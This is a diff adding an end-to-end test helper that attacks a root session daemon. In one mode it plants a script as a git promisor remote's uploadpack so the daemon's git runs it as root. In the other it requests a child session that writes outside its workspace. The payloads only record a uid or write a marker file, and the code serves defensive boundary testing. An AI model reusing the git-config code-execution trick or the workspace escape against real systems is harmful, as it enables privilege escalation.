@@ -1,0 +1,109 @@
+"""A session program that attacks what the daemon does as root on paths its run
+controls (tests/e2e/test_boundary_attacks.py). Standard library only.
+
+- ``ATTACK_MODE=git``: its workspace is the operator's git repository. It makes
+  the repository a partial clone whose promisor remote's ``uploadpack`` is a
+  script of its own, and points HEAD, through a symbolic ref, at a commit that
+  is not there. A ``git`` the daemon runs in the workspace (to read HEAD) would
+  fetch the commit, running the script as the daemon. Then it asks for a step
+  (the daemon reads the workspace's HEAD for it).
+- ``ATTACK_MODE=create``: it creates a session ``child`` whose ``[run]`` writes a
+  folder outside its own workspace (``writable``), or whose workspace is that
+  folder (``cwd``), and whose program writes a file there.
+
+What it saw goes to ``program.json`` in its workspace; the script writes
+``$ATTACK_LEDGER/pwned`` with the uid it ran as.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+from typing import Any
+
+ENDPOINT = os.environ["SESSIOND_SOCKET"]
+TOKEN = os.environ["SESSIOND_TOKEN"]
+SELF = os.environ["SESSIOND_SESSION"]
+MODE = os.environ["ATTACK_MODE"]
+LEDGER = os.environ["ATTACK_LEDGER"]
+WORKSPACE = os.getcwd()
+
+
+def call(method: str, params: dict[str, Any], token: str | None = TOKEN) -> Any:
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
+        sock.settimeout(60)
+        sock.connect(ENDPOINT)
+        frame: dict[str, Any] = {"id": 1, "method": method, "params": params}
+        if token is not None:
+            frame["token"] = token
+        sock.sendall(json.dumps(frame).encode() + b"\n")
+        data = b""
+        while not data.endswith(b"\n"):
+            chunk = sock.recv(65536)
+            if not chunk:
+                break
+            data += chunk
+    return json.loads(data) if data else {"ok": False, "error": {"message": "closed"}}
+
+
+def step(name: str) -> Any:
+    params = {
+        "token": TOKEN,
+        "session": SELF,
+        "name": name,
+        "ordinal": 1,
+        "args": {},
+        "risk": {"side_effect": "read"},
+    }
+    return call("sdk.step", params, token=None)
+
+
+def git_attack(results: dict[str, Any]) -> None:
+    script = os.path.join(WORKSPACE, "fetch.sh")
+    with open(script, "w") as f:
+        f.write(f"#!/bin/sh\nid -u > {LEDGER}/pwned\nexit 1\n")
+    os.chmod(script, 0o755)
+    dot = os.path.join(WORKSPACE, ".git")
+    with open(os.path.join(dot, "config"), "a") as f:
+        f.write(
+            "[core]\n\trepositoryformatversion = 1\n"
+            "[extensions]\n\tpartialClone = origin\n"
+            f'[remote "origin"]\n\turl = {WORKSPACE}\n\tpromisor = true\n'
+            f"\tuploadpack = {script}\n"
+        )
+    refs = os.path.join(dot, "refs", "heads")
+    with open(os.path.join(refs, "a"), "w") as f:
+        f.write("ref: refs/heads/b\n")
+    with open(os.path.join(refs, "b"), "w") as f:
+        f.write("1234567890123456789012345678901234567890\n")
+    with open(os.path.join(dot, "HEAD"), "w") as f:
+        f.write("ref: refs/heads/a\n")
+    results["step"] = step("after-git")
+
+
+def create_attack(results: dict[str, Any]) -> None:
+    target = os.environ["ATTACK_TARGET"]
+    how = os.environ["ATTACK_HOW"]
+    program = ["/bin/sh", "-c", f"echo pwned > {target}/owned.txt"]
+    where = f'cwd = "{target}"\n' if how == "cwd" else f'writable = ["{target}"]\n'
+    spec = (
+        f'name = "child"\ngoal = "help"\n[run]\nexec = {json.dumps(program)}\n{where}retries = 0\n'
+    )
+    results["create"] = call("create", {"spec": spec, "base": WORKSPACE})
+
+
+def main() -> None:
+    results: dict[str, Any] = {}
+    try:
+        if MODE == "git":
+            git_attack(results)
+        elif MODE == "create":
+            create_attack(results)
+    finally:
+        with open(os.path.join(WORKSPACE, "program.json"), "w") as f:
+            json.dump(results, f)
+
+
+if __name__ == "__main__":
+    main()
